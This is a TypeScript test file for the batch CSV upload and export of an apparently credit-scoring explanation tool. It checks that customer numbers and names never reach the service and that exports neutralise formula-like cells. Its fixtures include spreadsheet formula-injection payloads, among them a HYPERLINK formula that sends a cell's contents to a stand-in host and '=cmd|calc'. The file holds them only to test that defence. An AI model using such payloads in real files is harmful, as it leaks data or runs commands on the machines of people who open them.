// A batch file's own columns that are not features (a customer number, a name): kept beside each row's answer in
// the results and the CSV export, so that a sorted or filtered row is still known by its customer, and never sent
// to the service (so never in its audit log). Also the batch page's words for its columns.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Api, ApiRequest } from '../../shared/contract.js';
import type { ExplanationDocument } from '../../shared/explanation.js';
import { translate } from '../../shared/i18n/index.js';
import { makeT } from '../../renderer/src/i18n/i18n.js';
import { BatchStore } from '../../renderer/src/pages/batch/batch-store.js';
import { checkRows, columnReport, headerMatcher } from '../../renderer/src/pages/batch/csv-rows.js';
import { expectedColumns, fileRefusalText } from '../../renderer/src/pages/batch/file-refusal.js';
import {
  filterAndSort,
  keptHeaders,
  problemsCsv,
  resultRows,
  resultsCsv,
  type ResultRow,
} from '../../renderer/src/pages/batch/results.js';
import { demoSchema } from './helpers.js';

const schema = demoSchema();

/** As the officer's branch writes it: a customer number and a name before the features, by their Chinese labels. */
const WITH_ID = [
  '客户编号,姓名,工龄,住房情况,贷款期限,逾期记录,职业类型,月支出,月收入,资产,负债,申请金额,购买价格',
  'C10,张三,2,租房,60,否,自由职业,60,200,5000,0,1500,1800',
  'C2,李四,15,自有住房,36,否,固定工作,60,250,"10,000",0,800,1500',
  'C7,王五,abc,租房,60,否,自由职业,60,200,5000,0,1500,1800',
  'C3,=HYPERLINK("http://x.example/?"&A2),5,租房,60,否,自由职业,60,200,5000,0,900,1000',
].join('\n');

function doc(line: number, score: number, masked = 'sensitive_3b96f2f7fce7'): ExplanationDocument {
  return {
    id: `doc-${line}`,
    model: { id: 'credit-demo', version: '1.0.0', sha256: 'a'.repeat(64) },
    score,
    decision: { label: score >= 0.5 ? 'good' : 'bad', approved: score >= 0.5, threshold: 0.5 },
    attributions: [
      { feature: 'Job', label: '职业类型', value: 'freelance', attribution: -0.19, masked: false },
      { feature: masked, value: null, attribution: 0.07, masked: true },
    ],
    rest_sum: 0.1,
    reasons: [{ feature: 'Job', attribution: -0.19, description: '职业类型为“自由职业”，拉低了通过率' }],
    meta: { locale: 'zh-CN', cache: 'miss', latency_ms: 1 },
    _meta: { watermark: 'b'.repeat(64), key_id: 'k1', alg: 'HMAC-SHA256/JCS' },
  } as unknown as ExplanationDocument;
}

/** An explain that answers every applicant, and keeps each request as the wire would carry it. */
function recordingApi() {
  const sent: string[] = [];
  let line = 2;
  const api: Pick<Api, 'explain'> = {
    async explain(request: ApiRequest<'explain'>) {
      sent.push(JSON.stringify(request));
      return { documents: request.applicants.map(() => doc(line++, 0.6)) };
    },
  };
  return { api, sent };
}

async function loaded(text: string): Promise<BatchStore> {
  const store = new BatchStore(() => Promise.resolve());
  await store.load(new File([text], 'withid.csv', { type: 'text/csv' }), schema);
  return store;
}

describe("a batch file's columns that are not features", () => {
  it('are kept beside each good row, as written, in the order of the file', () => {
    const parsed = Papa.parse<Record<string, string>>(WITH_ID, {
      header: true,
      transformHeader: headerMatcher(schema),
    });
    expect(columnReport(schema, parsed.meta.fields!).ignored).toEqual(['客户编号', '姓名']);
    const { good } = checkRows(schema, parsed.data, 2, new Map(), ',', ['姓名', '客户编号', 'absent']);
    expect(good[0]!.kept).toEqual(['张三', 'C10', '']);
    expect(good[0]!.applicant).not.toHaveProperty('姓名');
  });

  it('reach the results, but never the service: no name or customer number in any request', async () => {
    const store = await loaded(WITH_ID);
    const loadedState = store.getSnapshot();
    expect(loadedState.columns!.ignored).toEqual(['客户编号', '姓名']);
    expect(loadedState.good.map((g) => g.kept)).toEqual([
      ['C10', '张三'],
      ['C2', '李四'],
      ['C3', '=HYPERLINK("http://x.example/?"&A2)'],
    ]);
    // The bad row (工龄 "abc") keeps its line: the good rows' answers are matched to them by line.
    expect(loadedState.good.map((g) => g.line)).toEqual([2, 3, 5]);
    const { api, sent } = recordingApi();
    await store.run(api, { locale: 'zh-CN' });
    const state = store.getSnapshot();
    expect(state.phase).toBe('done');
    expect(state.results.map((r) => [r.line, ...r.kept])).toEqual([
      [2, 'C10', '张三'],
      [3, 'C2', '李四'],
      [5, 'C3', '=HYPERLINK("http://x.example/?"&A2)'],
    ]);
    expect(sent).toHaveLength(1);
    for (const cell of ['张三', '李四', 'C10', 'C2', 'HYPERLINK', '客户编号', '姓名']) {
      expect(sent.join('\n')).not.toContain(cell);
    }
    expect(JSON.parse(sent[0]!).applicants[0]).toEqual(state.good[0]!.applicant);
  });

  it('find a row by its customer number, and sort by it as a person reads it (C2 before C10)', () => {
    const rows = resultRows(
      [
        { line: 2, ok: true, doc: doc(2, 0.6) },
        { line: 3, ok: true, doc: doc(3, 0.2) },
        { line: 4, ok: true, doc: doc(4, 0.9) },
      ],
      (line) => ({ 2: ['C10', '张三'], 3: ['C2', '李四'], 4: ['C3', '王五'] })[line] ?? [],
    );
    const view = (text: string, key: 'kept:0' | 'kept:1' | 'score', dir: 'asc' | 'desc' = 'asc') =>
      filterAndSort(rows, { decision: 'all', text }, { key, dir }, () => '敏感特征（已脱敏）').map(
        (r) => r.kept[0],
      );
    expect(view('', 'kept:0')).toEqual(['C2', 'C3', 'C10']);
    expect(view('', 'kept:0', 'desc')).toEqual(['C10', 'C3', 'C2']);
    expect(view('c10', 'score')).toEqual(['C10']);
    expect(view('李四', 'score')).toEqual(['C2']);
  });

  it('lead the CSV export after the line, a cell that starts like a formula neutralised with a quote', () => {
    const cells: Record<number, string[]> = {
      2: ['C10', '张三'],
      3: ['=HYPERLINK("http://x.example/?"&A2)', '+86 138'],
      4: ['-1', '@SUM(A1)'],
      5: ['\tC5', ''],
    };
    const rows: ResultRow[] = resultRows(
      [2, 3, 4, 5].map((line) => ({ line, ok: true as const, doc: doc(line, 0.6) })),
      (line) => cells[line] ?? [],
    );
    const csv = resultsCsv(rows, { kept: ['客户编号', '姓名'], maskedLabel: () => 'x' });
    const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true });
    expect(parsed.data[0]!.slice(0, 5)).toEqual(['line', '客户编号', '姓名', 'document_id', 'decision']);
    expect(parsed.data.slice(1).map((r) => r.slice(0, 4))).toEqual([
      ['2', 'C10', '张三', 'doc-2'],
      ['3', `'=HYPERLINK("http://x.example/?"&A2)`, "'+86 138", 'doc-3'],
      ['4', "'-1", "'@SUM(A1)", 'doc-4'],
      ['5', "'\tC5", '', 'doc-5'],
    ]);
  });

  it("keep their own names in the export, unless the export's own column has it, or it starts like a formula", () => {
    expect(keptHeaders(['客户编号', 'Score', 'file_score', 'line'])).toEqual([
      '客户编号',
      'file_Score',
      'file_file_score',
      'file_line',
    ]);
    const rows = resultRows([{ line: 2, ok: true, doc: doc(2, 0.6) }], () => ['1']);
    const csv = resultsCsv(rows, { kept: ['=cmd|calc'], maskedLabel: () => 'x' });
    expect(csv.split('\r\n')[0]).toMatch(/^\uFEFFline,"'=cmd\|calc",document_id,decision,/);
  });

  it('stay with a row that has problems, so that the officer knows whose application to correct', () => {
    const text = WITH_ID + '\nC8,赵六,5,租房,60';
    const parsed = Papa.parse<Record<string, string>>(text, {
      header: true,
      transformHeader: headerMatcher(schema),
    });
    const malformed = new Map(parsed.errors.map((e) => [e.row!, e.message]));
    const { good, bad } = checkRows(schema, parsed.data, 2, malformed, ',', ['客户编号', '姓名']);
    expect(good.map((r) => r.kept[0])).toEqual(['C10', 'C2', 'C3']);
    // A row of the wrong width keeps none: its cells cannot be told to be in their columns.
    expect(bad.map((r) => [r.line, r.kept])).toEqual([
      [4, ['C7', '王五']],
      [6, []],
    ]);
  });

  it('lead the problems CSV after the line, as in the results CSV, a formula neutralised', () => {
    const csv = problemsCsv(
      [
        { line: 4, kept: ['C7', '王五', 'x'], field: '工龄', message: '请输入数字（当前为“abc”）' },
        { line: 5, kept: ['=1+1', '', ''], field: '资产', message: '请输入数字' },
        { line: 6, kept: [], field: '整行', message: '列数不对' },
      ],
      ['客户编号', '姓名', 'Field'],
    );
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data).toEqual([
      ['line', '客户编号', '姓名', 'file_Field', 'field', 'message'],
      ['4', 'C7', '王五', 'x', '工龄', '请输入数字（当前为“abc”）'],
      ['5', "'=1+1", '', '', '资产', '请输入数字'],
      ['6', '', '', '', '整行', '列数不对'],
    ]);
  });
});

describe('the batch CSV export', () => {
  it('names a masked feature as the page does ("敏感特征（已脱敏） #3b96"), never by its pseudonym or name', () => {
    const rows = resultRows([{ line: 2, ok: true, doc: doc(2, 0.6) }]);
    const names = new Map([['sensitive_3b96f2f7fce7', '敏感特征（已脱敏） #3b96']]);
    const csv = resultsCsv(rows, { kept: [], maskedLabel: (p) => names.get(p) ?? '?' });
    const [row] = Papa.parse<Record<string, string>>(csv.slice(1), {
      header: true,
      skipEmptyLines: true,
    }).data;
    expect(row!.top_attributions).toBe('职业类型: -0.1900; 敏感特征（已脱敏） #3b96: 0.0700');
    expect(csv).not.toContain('sensitive_3b96f2f7fce7');
  });
});

describe("the batch page's words for columns", () => {
  it('lists the expected columns by label and name in Chinese ("工龄（Seniority）"), and in English', () => {
    const zh = expectedColumns(schema, 'zh-CN', makeT('zh-CN'));
    expect(zh).toMatch(/^工龄（Seniority）、住房情况（Home）、贷款期限（Time）/);
    expect(zh).toContain('资产（Assets）');
    const en = expectedColumns(schema, 'en', makeT('en'));
    expect(en).toMatch(/^Years with current employer \(Seniority\), Housing \(Home\), /);
    // A label that is the feature's name is not said twice.
    expect(en).toContain(', Assets, Debt, ');
    expect(fileRefusalText({ kind: 'noFeatureColumns' }, schema, 'zh-CN', makeT('zh-CN'))).toContain(
      '工龄（Seniority）、住房情况（Home）',
    );
  });

  it('say the ignored columns are kept in the results but not sent to the model', () => {
    expect(translate('zh-CN', 'batch.ignoredColumns')).toMatch(/不会发送给模型.*保留在结果/);
    expect(translate('en', 'batch.ignoredColumns')).toMatch(/not sent to the model.*kept in the results/);
  });

  it('head the first adverse factor as such, not as a reason for a decline (approved rows have one too)', () => {
    expect(translate('zh-CN', 'batch.col.reason')).toBe('首要不利因素');
    expect(translate('en', 'batch.col.reason')).toBe('Top adverse factor');
  });
});
